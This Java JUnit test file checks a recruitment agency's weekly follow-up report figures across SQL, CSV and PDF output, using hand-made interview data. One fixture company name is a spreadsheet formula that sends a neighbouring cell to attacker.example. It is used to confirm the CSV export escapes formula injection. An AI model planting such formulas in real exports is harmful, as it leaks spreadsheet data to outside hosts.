package com.followup.reports;

import static org.assertj.core.api.Assertions.assertThat;

import com.followup.api.auth.Role;
import com.followup.api.db.JdbiInterviewRecords;
import com.followup.api.testing.TestApp;
import com.followup.core.model.InterviewId;
import com.followup.core.policy.AgencyPolicy;
import com.followup.core.testing.PostgresDatabaseExtension;
import java.awt.image.BufferedImage;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.ZoneId;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.OptionalLong;
import java.util.Set;
import javax.imageio.ImageIO;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.rendering.PDFRenderer;
import org.apache.pdfbox.text.PDFTextStripper;
import org.jdbi.v3.core.Handle;
import org.jdbi.v3.core.Jdbi;
import org.jdbi.v3.postgres.PostgresPlugin;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * A week made by hand, its figures worked out by hand (see the comments), then checked in the SQL, in the CSV parsed
 * back and in the PDF's extracted text. Week 2026-W47 runs from Monday 16 to Sunday 22 November 2026; London is on
 * UTC then, so local times equal the UTC times below.
 */
class HandMadeWeekTest {
    @RegisterExtension
    static final PostgresDatabaseExtension DATABASE = TestApp.migratedDatabase();

    private static final ZoneId ZONE = ZoneId.of("Europe/London");
    private static final AgencyPolicy POLICY = AgencyPolicy.defaults(ZONE);
    private static final IsoWeek WEEK = IsoWeek.parse("2026-W47");
    // Late enough for the ghosted thread of interview 2 to close (second check 17 Dec + 14 days = 31 Dec).
    private static final Instant AS_OF = Instant.parse("2027-01-05T00:00:00Z");
    private static final String COMPANY_A = "Acme, \"Widgets\" Ltd";
    /** Bea Corp, as a candidate who means harm could name it: a formula that leaks the cell beside it. */
    private static final String COMPANY_B = "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"Bea Corp\")";

    private static Jdbi jdbi;
    private static long rita;
    private static long rob;
    private static long carla;
    private static long hana;
    private static WeeklyReport report;

    @BeforeAll
    static void insert() {
        jdbi = Jdbi.create(DATABASE::connect);
        jdbi.installPlugin(new PostgresPlugin());
        long admin = TestApp.user(DATABASE, "admin@agency.test", "Ada Admin", Role.ADMIN);
        rita = TestApp.user(DATABASE, "rita@agency.test", "Rita Recruiter", Role.RECRUITER);
        rob = TestApp.user(DATABASE, "rob@agency.test", "Rob Recruiter", Role.RECRUITER);
        jdbi.useTransaction(handle -> {
            long companyA = id(handle, "INSERT INTO companies (name) VALUES (?) RETURNING id", COMPANY_A);
            long companyB =
                    id(handle, "INSERT INTO companies (name, does_not_reply) VALUES (?, true) RETURNING id", COMPANY_B);
            hana = contact(handle, companyA, "Hana Hiring", "HIRING_MANAGER", "hana@a.example", null);
            long ivan =
                    contact(handle, companyA, "Ivan Interviewer", "INTERVIEWER", "ivan@a.example", "+44 20 1111 2222");
            long bea = contact(handle, companyB, "Bea Boss", "HIRING_MANAGER", "bea@b.example", null);
            carla = id(
                    handle,
                    "INSERT INTO candidates (name, email, zone) VALUES ('Zoë Ångström', 'zoe@example.test',"
                            + " 'Europe/London') RETURNING id");
            long dan = id(
                    handle,
                    "INSERT INTO candidates (name, email, zone) VALUES ('Dan Doe', 'dan@example.test',"
                            + " 'Europe/London') RETURNING id");
            handle.execute("INSERT INTO recruiter_assignments (candidate_id, recruiter_id) VALUES (?, ?)", carla, rita);
            handle.execute("INSERT INTO recruiter_assignments (candidate_id, recruiter_id) VALUES (?, ?)", dan, rob);

            // Interview 1: Zoë at Acme, Monday 10:00, Hana and Ivan.
            long one = interview(handle, carla, companyA, "2026-11-16T10:00:00Z", hana, ivan);
            // R1 on time, R2 ideal: exactly 2 h after the end, the ideal window's inclusive start.
            touch(handle, admin, one, "THANK_YOU", "EMAIL", hana, "hana@a.example", "2026-11-16T12:00:00Z");
            // R1 on time at exactly 48 h (inclusive); R2 acceptable: after noon the next day.
            touch(handle, admin, one, "THANK_YOU", "EMAIL", ivan, "ivan@a.example", "2026-11-18T10:00:00Z");
            handle.execute(
                    "INSERT INTO debriefs (interview_id, notes, written_at) VALUES (?, 'fine', '2026-11-16T20:00:00Z')",
                    one);
            // R5 recorded; R6: decision Friday 20th, so checks open Monday 23rd 09:00.
            handle.execute("INSERT INTO timelines (interview_id, decision_date) VALUES (?, '2026-11-20')", one);
            // R6 breach: 08:00, an hour early. First check with a date: no R7.
            touch(handle, admin, one, "STATUS_CHECK", "EMAIL", hana, "hana@a.example", "2026-11-23T08:00:00Z");
            // The company answers: 7 days less 2 hours after the first touch (the 12:00 thank-you): 166 h.
            reply(handle, admin, one, hana, "2026-11-23T10:00:00Z");
            // R7 breach: two days after the reply, not fourteen. Phone is allowed for a later check (R10), and
            // the number is Ivan's business one written differently (R12 compares digits).
            touch(handle, admin, one, "STATUS_CHECK", "PHONE", ivan, "+44 (20) 1111-2222", "2026-11-25T10:00:00Z");

            // Interview 2: Dan at Acme, Wednesday 15:00, Ivan only. No thank-you (R3 missed), no debrief (R20),
            // no timeline (R5).
            long two = interview(handle, dan, companyA, "2026-11-18T15:00:00Z", ivan);
            // R13: a gift; it is also the first touch after the interview, and no reply ever comes.
            touch(handle, admin, two, "GIFT", "PARCEL", ivan, "Acme office", "2026-11-19T09:00:00Z");
            // R12: a personal address. First check without a date: 14 days after the end (2 Dec 15:00) passed.
            touch(handle, admin, two, "STATUS_CHECK", "EMAIL", ivan, "ivan.private@gmail.com", "2026-12-03T10:00:00Z");
            // Exactly 14 days later: no R7 (inclusive). Two unanswered checks: the thread closes on 31 Dec (R8).
            touch(handle, admin, two, "STATUS_CHECK", "EMAIL", ivan, "ivan@a.example", "2026-12-17T10:00:00Z");

            // Logged by mistake and retracted (decision 0019): none of these counts in any figure below. Counted,
            // the thank-you would make interview 2's step done (not missed), the gift an R13 breach, the decision
            // an answered (not ghosted) thread with a response time, and the early check an R6 breach.
            retractedTouch(handle, admin, two, "THANK_YOU", "EMAIL", ivan, "ivan@a.example", "2026-11-18T17:00:00Z");
            retractedTouch(handle, admin, two, "GIFT", "PARCEL", ivan, "Acme office", "2026-11-20T09:00:00Z");
            retractedReply(handle, admin, two, ivan, "DECISION", "2026-11-21T09:00:00Z");
            retractedTouch(handle, admin, one, "STATUS_CHECK", "EMAIL", hana, "hana@a.example", "2026-11-21T08:00:00Z");

            // Interview 3: Zoë at Bea Corp (R18: does not reply), Friday 09:00.
            long three = interview(handle, carla, companyB, "2026-11-20T09:00:00Z", bea);
            // R1 on time but R2 early: one hour after the end.
            touch(handle, admin, three, "THANK_YOU", "EMAIL", bea, "bea@b.example", "2026-11-20T10:00:00Z");
            // R20 breach: 25 hours after the end.
            handle.execute(
                    "INSERT INTO debriefs (interview_id, notes, written_at) VALUES (?, 'ok', '2026-11-21T10:00:00Z')",
                    three);
            handle.execute("INSERT INTO timelines (interview_id) VALUES (?)", three);

            // The week before (trend only) and the week after (not in the report): ends Monday 00:00 of W48.
            interview(handle, dan, companyA, "2026-11-11T12:00:00Z", ivan);
            interview(handle, carla, companyA, "2026-11-23T00:00:00Z", hana);
        });
        WeeklyParameters parameters = new WeeklyParameters(WEEK, ReportScope.AGENCY, AS_OF, ZONE, "Hand Agency", 8);
        report = new WeeklyReport(
                parameters, jdbi.withHandle(handle -> WeeklyFiguresQuery.run(handle, parameters, POLICY)));
    }

    @Test
    void theAgencyFiguresAreTheOnesWorkedOutByHand() {
        FigureRow week = report.headline();
        assertThat(week)
                .isEqualTo(new FigureRow(
                        "2026-W47",
                        Dimension.AGENCY,
                        0,
                        "Hand Agency",
                        3, // interviews 1, 2, 3; not the one ending on Monday 00:00 of the next week
                        4, // thank-you steps: Hana, Ivan; Ivan; Bea
                        4, // all due by the as-of instant
                        3, // R1 on time: Hana, Ivan at 48 h, Bea
                        0, // R1 late
                        1, // R3 missed: Ivan in interview 2
                        3, // thanked
                        1, // R2 ideal: Hana only (Ivan acceptable, Bea early)
                        3, // debriefs due
                        1, // R4/R20 on time: interview 1 only
                        2, // R5 timelines: interviews 1 and 3
                        4, // status checks
                        1, // R6
                        1, // R7
                        0, // R8
                        0, // R10
                        8, // touches
                        1, // R12
                        1, // R13
                        1, // R18: interview 3 left out of response figures
                        2, // followed up: interviews 1 and 2
                        1, // responded: interview 1
                        OptionalLong.of(166 * 3600),
                        OptionalLong.of(166 * 3600),
                        1, // ghosted: interview 2
                        2, // both followed-up threads are weeks old on 5 January: counted for the 14-day window
                        1)); // and the one reply came after 166 h, within 14 days
        assertThat(week.breaches()).isEqualTo(7);
        assertThat(report.trend()).extracting(FigureRow::interviews).containsExactly(0L, 0L, 0L, 0L, 0L, 0L, 1L, 3L);
    }

    @Test
    void theGroupsSplitTheWeek() {
        assertThat(report.rows(Dimension.RECRUITER))
                .extracting(FigureRow::name, FigureRow::interviews)
                .containsExactly(
                        org.assertj.core.groups.Tuple.tuple("Rita Recruiter", 2L),
                        org.assertj.core.groups.Tuple.tuple("Rob Recruiter", 1L));
        assertThat(report.rows(Dimension.HIRING_MANAGER))
                .extracting(FigureRow::name, FigureRow::interviews)
                .containsExactly(
                        org.assertj.core.groups.Tuple.tuple("Hana Hiring", 1L),
                        org.assertj.core.groups.Tuple.tuple("Bea Boss", 1L));
        assertThat(report.needingAttention(Dimension.COMPANY).get(0).name()).isEqualTo(COMPANY_A);
        assertThat(report.needingAttention(Dimension.CANDIDATE))
                .extracting(FigureRow::name)
                .containsExactly("Dan Doe", "Zoë Ångström");
    }

    @Test
    void theRulesEngineAgrees() {
        List<com.followup.core.model.InterviewRecord> records = new JdbiInterviewRecords(jdbi)
                .findAll(jdbi.withHandle(handle -> handle.createQuery("SELECT id FROM interviews")
                        .mapTo(Long.class)
                        .map(InterviewId::new)
                        .list()));
        Map<Long, Set<Long>> recruiters = new HashMap<>();
        recruiters.put(carla, Set.of(rita));
        recruiters.put(carla + 1, Set.of(rob));
        assertThat(WeeklyFiguresReference.compute(
                        records,
                        recruiters,
                        Map.of(rita, "Rita Recruiter", rob, "Rob Recruiter"),
                        report.parameters(),
                        POLICY))
                .isEqualTo(report.rows());
    }

    @Test
    void theCsvParsesBackToTheSameFigures() throws Exception {
        byte[] csv = CsvReport.render(report);
        // UTF-8 with a byte order mark, so LibreOffice picks the encoding by itself.
        assertThat(csv).startsWith(0xEF, 0xBB, 0xBF);
        String text = new String(csv, StandardCharsets.UTF_8).substring(1);
        assertThat(text).contains("\r\n").contains("\"Acme, \"\"Widgets\"\" Ltd\"");
        try (CSVParser parser = CSVFormat.RFC4180
                .builder()
                .setHeader()
                .setSkipHeaderRecord(true)
                .get()
                .parse(new StringReader(text))) {
            assertThat(parser.getHeaderNames()).isEqualTo(CsvReport.COLUMNS);
            List<CSVRecord> records = parser.getRecords();
            assertThat(records).hasSize(report.rowsWithTrendZeros().size());
            CSVRecord agency = records.stream()
                    .filter(record -> record.get("dimension").equals("AGENCY")
                            && record.get("week").equals("2026-W47"))
                    .findFirst()
                    .orElseThrow();
            assertThat(agency.get("name")).isEqualTo("Hand Agency");
            assertThat(agency.get("thank_you_on_time_r1")).isEqualTo("3");
            assertThat(agency.get("thank_you_due_r1")).isEqualTo("4");
            assertThat(agency.get("thank_you_on_time_rate_r1")).isEqualTo("0.7500");
            assertThat(agency.get("interviewer_coverage_r3")).isEqualTo("0.7500");
            assertThat(agency.get("response_median_hours")).isEqualTo("166.0");
            assertThat(agency.get("response_rate")).isEqualTo("0.5000");
            assertThat(agency.get("ghosted_r8")).isEqualTo("1");
            assertThat(agency.get("breaches")).isEqualTo("7");
            assertThat(records).extracting(record -> record.get("name")).contains(COMPANY_A, "Zoë Ångström");
            // A name a spreadsheet would run as a formula arrives as text (issue 15).
            assertThat(records)
                    .extracting(record -> record.get("name"))
                    .contains("'" + COMPANY_B)
                    .doesNotContain(COMPANY_B);
        }
    }

    @Test
    void thePdfCarriesTheFiguresAndRenders() throws Exception {
        byte[] pdf = PdfReport.render(report);
        try (PDDocument document = Loader.loadPDF(pdf)) {
            String text = new PDFTextStripper().getText(document);
            assertThat(text)
                    .contains("Weekly follow-up report")
                    .contains("Hand Agency")
                    .contains("2026-W47")
                    .contains("75.0 %")
                    .contains("3 of 4 due")
                    .contains("166.0 h median")
                    .contains("R18")
                    .contains("Zoë Ångström")
                    .contains(COMPANY_A)
                    .contains("Most need attention");
            assertThat(document.getNumberOfPages()).isGreaterThanOrEqualTo(2);
            BufferedImage page = new PDFRenderer(document).renderImageWithDPI(0, 110);
            assertThat(page.getWidth()).isGreaterThan(page.getHeight());
            assertThat(distinctColours(page)).isGreaterThan(8);
            Path sample = Path.of("target", "report-sample.png");
            Files.createDirectories(sample.getParent());
            ImageIO.write(page, "png", sample.toFile());
        }
    }

    @Test
    void thePdfFiguresAgreeWithTheDatabaseCountedAnotherWay() throws Exception {
        // Counted straight from the tables, without the report's SQL: the week's interviews and interviewers met.
        Instant start = WEEK.start(ZONE);
        Instant end = WEEK.end(ZONE);
        long interviews = jdbi.withHandle(handle -> handle.createQuery(
                        "SELECT count(*) FROM interviews WHERE ends_at >= :start AND ends_at < :end")
                .bind("start", start.atOffset(java.time.ZoneOffset.UTC))
                .bind("end", end.atOffset(java.time.ZoneOffset.UTC))
                .mapTo(Long.class)
                .one());
        long met = jdbi.withHandle(handle -> handle.createQuery(
                        """
                        SELECT count(*) FROM interview_interviewers ii JOIN interviews i ON i.id = ii.interview_id
                         WHERE i.ends_at >= :start AND i.ends_at < :end
                        """)
                .bind("start", start.atOffset(java.time.ZoneOffset.UTC))
                .bind("end", end.atOffset(java.time.ZoneOffset.UTC))
                .mapTo(Long.class)
                .one());
        List<String> pages = PdfLayoutTest.pages(PdfReport.render(report));
        assertThat(pages.get(0))
                .containsPattern("Interviews held\\s+" + interviews + "\\s")
                .containsPattern("of " + met + " met");
        for (int index = 0; index < pages.size(); index++) {
            assertThat(pages.get(index)).contains("Page " + (index + 1) + " of " + pages.size());
        }
    }

    @Test
    void theTidyTablesHoldTheCsvFigures() throws Exception {
        byte[] zip = TidyCsvReport.zip(CsvReport.render(report));
        Map<String, List<CSVRecord>> tables = new java.util.LinkedHashMap<>();
        Map<String, List<String>> headers = new HashMap<>();
        try (java.util.zip.ZipInputStream entries =
                new java.util.zip.ZipInputStream(new java.io.ByteArrayInputStream(zip))) {
            for (java.util.zip.ZipEntry entry = entries.getNextEntry(); entry != null; entry = entries.getNextEntry()) {
                String text = new String(entries.readAllBytes(), StandardCharsets.UTF_8);
                assertThat(text).startsWith("\uFEFF");
                try (CSVParser parser = CSVFormat.RFC4180
                        .builder()
                        .setHeader()
                        .setSkipHeaderRecord(true)
                        .get()
                        .parse(new StringReader(text.substring(1)))) {
                    headers.put(entry.getName(), parser.getHeaderNames());
                    tables.put(entry.getName(), parser.getRecords());
                }
            }
        }
        assertThat(tables.keySet())
                .containsExactlyElementsOf(TidyCsvReport.TABLES.stream()
                        .map(TidyCsvReport.Table::fileName)
                        .toList());
        for (TidyCsvReport.Table table : TidyCsvReport.TABLES) {
            assertThat(headers.get(table.fileName())).isEqualTo(table.header());
        }
        CSVRecord agency = tables.get("agency.csv").get(0);
        assertThat(tables.get("agency.csv")).hasSize(1);
        assertThat(agency.get("week")).isEqualTo("2026-W47");
        assertThat(agency.get("thank_you_on_time_r1")).isEqualTo("3");
        assertThat(agency.get("response_status")).isEqualTo("counted");
        assertThat(tables.get("companies.csv"))
                .extracting(record -> record.get("company"))
                .contains(COMPANY_A, "'" + COMPANY_B);
        // Eight weeks of the agency in the trend, the empty ones as zero rows.
        assertThat(tables.get("trend.csv").stream()
                        .filter(record -> record.get("group").equals("agency")))
                .hasSize(8)
                .anySatisfy(record -> assertThat(record.get("interviews")).isEqualTo("0"));
        // The same CSV gives the same zip, byte for byte (the archive serves it with a stable SHA-256).
        assertThat(TidyCsvReport.zip(CsvReport.render(report))).isEqualTo(zip);
    }

    private static int distinctColours(BufferedImage image) {
        Set<Integer> colours = new java.util.HashSet<>();
        for (int y = 0; y < image.getHeight(); y += 4) {
            for (int x = 0; x < image.getWidth(); x += 4) {
                colours.add(image.getRGB(x, y));
            }
        }
        return colours.size();
    }

    private static long id(Handle handle, String sql, Object... arguments) {
        return handle.select(sql, arguments).mapTo(Long.class).one();
    }

    private static long contact(Handle handle, long company, String name, String role, String email, String phone) {
        return id(
                handle,
                "INSERT INTO contacts (company_id, name, role, business_email, business_phone) VALUES (?, ?, ?, ?, ?)"
                        + " RETURNING id",
                company,
                name,
                role,
                email,
                phone);
    }

    private static long interview(Handle handle, long candidate, long company, String end, long... interviewers) {
        Instant ends = Instant.parse(end);
        long id = id(
                handle,
                "INSERT INTO interviews (candidate_id, company_id, role, starts_at, ends_at, format)"
                        + " VALUES (?, ?, 'Engineer', ?, ?, 'VIDEO') RETURNING id",
                candidate,
                company,
                ends.minusSeconds(3600).atOffset(java.time.ZoneOffset.UTC),
                ends.atOffset(java.time.ZoneOffset.UTC));
        for (int position = 0; position < interviewers.length; position++) {
            handle.execute(
                    "INSERT INTO interview_interviewers (interview_id, contact_id, position) VALUES (?, ?, ?)",
                    id,
                    interviewers[position],
                    position);
        }
        return id;
    }

    private static void touch(
            Handle handle,
            long user,
            long interview,
            String kind,
            String channel,
            long recipient,
            String address,
            String sentAt) {
        handle.execute(
                "INSERT INTO touches (interview_id, kind, channel, recipient_id, address, sent_at, created_by)"
                        + " VALUES (?, ?, ?, ?, ?, ?, ?)",
                interview,
                kind,
                channel,
                recipient,
                address,
                Instant.parse(sentAt).atOffset(java.time.ZoneOffset.UTC),
                user);
    }

    private static void reply(Handle handle, long user, long interview, long from, String receivedAt) {
        handle.execute(
                "INSERT INTO replies (interview_id, from_contact_id, received_at, kind, created_by)"
                        + " VALUES (?, ?, ?, 'ACKNOWLEDGEMENT', ?)",
                interview,
                from,
                Instant.parse(receivedAt).atOffset(java.time.ZoneOffset.UTC),
                user);
    }

    private static void retractedTouch(
            Handle handle,
            long user,
            long interview,
            String kind,
            String channel,
            long recipient,
            String address,
            String sentAt) {
        handle.execute(
                "INSERT INTO touches (interview_id, kind, channel, recipient_id, address, sent_at, created_by,"
                        + " version, retracted_at, retracted_by, retraction_reason)"
                        + " VALUES (?, ?, ?, ?, ?, ?, ?, 2, ?, ?, 'logged by mistake')",
                interview,
                kind,
                channel,
                recipient,
                address,
                Instant.parse(sentAt).atOffset(java.time.ZoneOffset.UTC),
                user,
                Instant.parse(sentAt).plusSeconds(60).atOffset(java.time.ZoneOffset.UTC),
                user);
    }

    private static void retractedReply(
            Handle handle, long user, long interview, long from, String kind, String receivedAt) {
        handle.execute(
                "INSERT INTO replies (interview_id, from_contact_id, received_at, kind, created_by, version,"
                        + " retracted_at, retracted_by, retraction_reason)"
                        + " VALUES (?, ?, ?, ?, ?, 2, ?, ?, 'logged by mistake')",
                interview,
                from,
                Instant.parse(receivedAt).atOffset(java.time.ZoneOffset.UTC),
                kind,
                user,
                Instant.parse(receivedAt).plusSeconds(60).atOffset(java.time.ZoneOffset.UTC),
                user);
    }
}
